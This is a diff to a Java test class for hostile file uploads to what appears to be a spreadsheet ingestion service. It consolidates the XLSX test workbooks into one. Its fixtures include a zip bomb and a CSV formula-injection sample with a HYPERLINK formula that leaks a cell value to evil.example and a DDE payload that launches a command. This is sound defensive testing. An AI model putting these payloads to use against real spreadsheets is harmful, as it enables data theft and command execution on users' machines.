@@ -105,7 +105,10 @@ class HostileUploadsTest {
         assertThat(u.path("message").asText()).as(u.toString()).containsPattern(SPANISH);
       }
       if (c.table() != null) {
-        String shown = texts(preview(c.table()));
+        StringBuilder shown = new StringBuilder();
+        for (String t : c.table().split(",")) {
+          shown.append(texts(preview(t.strip())));
+        }
         for (String text : c.shows().split(" && ")) {
           assertThat(shown).as("vista previa de " + c.table()).contains(text);
         }
@@ -253,9 +256,7 @@ class HostileUploadsTest {
       Map.entry("binary", HostileUploadsTest::binary),
       Map.entry("png_as_xlsx", () -> concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, binary())),
       Map.entry("zip_bomb", HostileUploadsTest::zipBomb),
-      Map.entry("xlsx_formulas", HostileUploadsTest::xlsxFormulas),
-      Map.entry("xlsx_many_sheets", HostileUploadsTest::xlsxManySheets),
-      Map.entry("xlsx_merged", HostileUploadsTest::xlsxMerged),
+      Map.entry("xlsx_book", HostileUploadsTest::xlsxBook),
       Map.entry("formula_injection", () -> csv("municipio\tformula\nPeñarroya\t=HYPERLINK(\"http://evil.example/?d=\"&A1;\"clic\")\n"
           + "Ávila\t=cmd|' /C calc'!A0\nHuelva\t+SUM(1;2)\nSevilla\t@SUM(1)\nCádiz\t-2+3\n", StandardCharsets.UTF_8)));
 
@@ -329,61 +330,64 @@ class HostileUploadsTest {
     }
   }
 
-  static byte[] xlsxFormulas() {
+  /** One workbook, one ingestion: a sheet with formulas, one with merged cells, a few more and an empty one. */
+  static byte[] xlsxBook() {
     return workbook(wb -> {
-      Sheet s = wb.createSheet("formulas");
-      String[][] rows = {{"municipio", "a", "b", "total"}, {"Sevilla", "1", "2", null}, {"Cádiz", "3", "4", null}};
-      for (int r = 0; r < rows.length; r++) {
-        Row row = s.createRow(r);
-        row.createCell(0).setCellValue(rows[r][0]);
-        if (r == 0) {
-          for (int c = 1; c < 4; c++) {
-            row.createCell(c).setCellValue(rows[0][c]);
-          }
-        } else {
-          row.createCell(1).setCellValue(Double.parseDouble(rows[r][1]));
-          row.createCell(2).setCellValue(Double.parseDouble(rows[r][2]));
-          row.createCell(3).setCellFormula("B" + (r + 1) + "+C" + (r + 1));
-        }
-      }
-      wb.getCreationHelper().createFormulaEvaluator().evaluateAll();
+      formulas(wb);
+      merged(wb);
+      manySheets(wb);
     });
   }
 
-  static byte[] xlsxManySheets() {
-    return workbook(wb -> {
-      for (int i = 1; i <= 3; i++) {
-        Sheet s = wb.createSheet("Hoja " + i + (i % 2 == 0 ? " (año)" : ""));
-        s.createRow(0).createCell(0).setCellValue("municipio");
-        s.getRow(0).createCell(1).setCellValue("valor");
-        Row r = s.createRow(1);
-        r.createCell(0).setCellValue("Lugar " + i);
-        r.createCell(1).setCellValue(i);
+  static void formulas(XSSFWorkbook wb) {
+    Sheet s = wb.createSheet("formulas");
+    String[][] rows = {{"municipio", "a", "b", "total"}, {"Sevilla", "1", "2", null}, {"Cádiz", "3", "4", null}};
+    for (int r = 0; r < rows.length; r++) {
+      Row row = s.createRow(r);
+      row.createCell(0).setCellValue(rows[r][0]);
+      if (r == 0) {
+        for (int c = 1; c < 4; c++) {
+          row.createCell(c).setCellValue(rows[0][c]);
+        }
+      } else {
+        row.createCell(1).setCellValue(Double.parseDouble(rows[r][1]));
+        row.createCell(2).setCellValue(Double.parseDouble(rows[r][2]));
+        row.createCell(3).setCellFormula("B" + (r + 1) + "+C" + (r + 1));
       }
-      wb.createSheet("vacía");
-    });
+    }
+    wb.getCreationHelper().createFormulaEvaluator().evaluateAll();
   }
 
-  static byte[] xlsxMerged() {
-    return workbook(wb -> {
-      Sheet s = wb.createSheet("combinadas");
-      s.createRow(0).createCell(0).setCellValue("Informe de potencia (combinada)");
-      s.addMergedRegion(new CellRangeAddress(0, 0, 0, 2));
-      Row h = s.createRow(2);
-      h.createCell(0).setCellValue("provincia");
-      h.createCell(1).setCellValue("municipio");
-      h.createCell(2).setCellValue("mw");
-      String[][] data = {{"Huelva", "Moguer", "5"}, {null, "Lepe", "6"}, {"Sevilla", "Écija", "7"}};
-      for (int i = 0; i < data.length; i++) {
-        Row r = s.createRow(3 + i);
-        if (data[i][0] != null) {
-          r.createCell(0).setCellValue(data[i][0]);
-        }
-        r.createCell(1).setCellValue(data[i][1]);
-        r.createCell(2).setCellValue(Double.parseDouble(data[i][2]));
+  static void manySheets(XSSFWorkbook wb) {
+    for (int i = 3; i <= 5; i++) {
+      Sheet s = wb.createSheet("Hoja " + i + (i % 2 == 0 ? " (año)" : ""));
+      s.createRow(0).createCell(0).setCellValue("municipio");
+      s.getRow(0).createCell(1).setCellValue("valor");
+      Row r = s.createRow(1);
+      r.createCell(0).setCellValue("Lugar " + i);
+      r.createCell(1).setCellValue(i);
+    }
+    wb.createSheet("vacía");
+  }
+
+  static void merged(XSSFWorkbook wb) {
+    Sheet s = wb.createSheet("combinadas");
+    s.createRow(0).createCell(0).setCellValue("Informe de potencia (combinada)");
+    s.addMergedRegion(new CellRangeAddress(0, 0, 0, 2));
+    Row h = s.createRow(2);
+    h.createCell(0).setCellValue("provincia");
+    h.createCell(1).setCellValue("municipio");
+    h.createCell(2).setCellValue("mw");
+    String[][] data = {{"Huelva", "Moguer", "5"}, {null, "Lepe", "6"}, {"Sevilla", "Écija", "7"}};
+    for (int i = 0; i < data.length; i++) {
+      Row r = s.createRow(3 + i);
+      if (data[i][0] != null) {
+        r.createCell(0).setCellValue(data[i][0]);
       }
-      s.addMergedRegion(new CellRangeAddress(3, 4, 0, 0));
-    });
+      r.createCell(1).setCellValue(data[i][1]);
+      r.createCell(2).setCellValue(Double.parseDouble(data[i][2]));
+    }
+    s.addMergedRegion(new CellRangeAddress(3, 4, 0, 0));
   }
 
   interface Filler {
